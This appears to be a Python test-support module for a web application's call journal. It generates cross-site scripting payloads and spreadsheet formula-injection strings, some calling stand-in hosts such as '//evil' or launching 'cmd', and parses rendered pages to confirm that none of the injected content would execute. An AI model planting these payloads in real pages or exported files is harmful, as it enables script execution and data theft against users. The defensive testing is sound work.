"""Texts that mean harm, where they come from, and what a page may hold: nothing that a browser would run."""

from __future__ import annotations

from html.parser import HTMLParser

from routing.journal.record import CallRecord, LegRecord, StepRecord
from support.desk_bed import NOW
from support.desk_calls import call

SCRIPTS = (
    "alert(1)", "window.x=1", "fetch('//evil')", "eval(name)", "import('//e')", "location='//e'", "top.x=1",
    "document.title='x'",
)  # fmt: skip
FORMS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
    '"><script>{}</script>', "'><script>{}</script>",
    '" onmouseover="{}', "' onfocus='{}' autofocus='", "javascript:{}", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "<a href=javascript:{}>x</a>", "<iframe srcdoc='<script>{}</script>'>",
    "{{{{ {} }}}}", "{{% if {} %}}x{{% endif %}}", "${{{}}}", "<!--><script>{}</script>-->",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<style>*{{background:url(//e)}}</style>{}", "<base href=//e>{}", "<meta http-equiv=refresh content=0;url=//e>{}",
    "<form action=//e><input name=form_token>{}", "\u2028<script>{}</script>", "<details open ontoggle={}>",
    "<math><mtext></table><img src=x onerror={}>", "<button hx-get=//e hx-trigger=load>{}",
    "<div data-submits>{}</div>",
)  # fmt: skip
HOSTILE = [form.format(script) for form in FORMS for script in SCRIPTS]
FORMULAS = [
    f"{begin}{rest}"
    for begin in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "'=", "=-+@")
    for rest in (
        "1+1",
        "cmd|'/C calc'!A0",
        'HYPERLINK("http://e","x")',
        "SUM(1)*cmd|' /C x'!A0",
        "IMPORTXML(//e)",
        "A1",
    )
]


class Elements(HTMLParser):
    """A page's elements with the names of their attributes, and where it leads."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.targets: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element."""
        self.found.append((tag, tuple(name for name, _ in attrs)))
        self.targets += [
            value or "" for name, value in attrs if name in ("href", "src", "action", "hx-get", "data-peaks")
        ]


def hostile_call(text: str) -> CallRecord:
    """A call with a text wherever somebody else than operations writes."""
    word = "".join(text.split()) or "x"
    step = StepRecord(1, word, word, word, NOW, 1.0, text, text, text, f"{text} {text}", 3.0, word)
    legs = (LegRecord("leg", word, text, word, NOW, 3.0, True, 0.0, text, text),)
    return call(
        "one",
    caller=text, client=text, number=text, dialled=text, schemes=(word,), release=text, status=text, cause=text,
        ended_by=text, target=text, voicemail=text, recording=text, box=text, source={"utm_source": text, word: text},
        entities={"name": text, word: text}, notify=(word,), tags=(word,), node=text, steps=(step,), legs=legs,
        decision=text, verdict=text,
    )  # fmt: skip


#: Elements that no page has, and those whose address must be ours.
_FOREIGN = {"iframe", "object", "embed", "base", "style", "math", "frame", "applet"}
_ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "data-peaks", "poster", "srcset", "data")


class Active(HTMLParser):
    """``found``: what a browser would run of a page, or where it would go, not ours. ``text``: what it shows."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text = ""
        self._script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element."""
        given = {name: value or "" for name, value in attrs}
        self._script = tag == "script"
        if tag in _FOREIGN or (tag == "script" and not given.get("src", "").startswith("/static/")):
            self.found.append(f"<{tag} {given}>")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh" and not _is_ours(given["content"]):
            self.found.append(f"<meta {given}>")
        self.found += [name for name in given if name.startswith("on") or name in ("style", "srcdoc")]
        self.found += [f"{name}={given[name]}" for name in _ADDRESSES if name in given and not _is_address(given[name])]
        self.text += "".join(f" {value} " for name, value in given.items() if name in ("value", "title", "aria-label"))

    def handle_data(self, data: str) -> None:
        """A text."""
        if self._script and data.strip():
            self.found.append(f"script: {data}")
        self.text += data


def _is_ours(refresh: str) -> bool:
    """Whether a page only loads itself again: ``10``."""
    return refresh.strip().isdecimal()


def _is_address(target: str) -> bool:
    inside = target.startswith(("/", "#", "?", "data:image/")) and target[1:2] not in ("/", "\\")
    return target == "" or inside or target.startswith(("tel:", "http://localhost/", "http://www.w3.org/"))
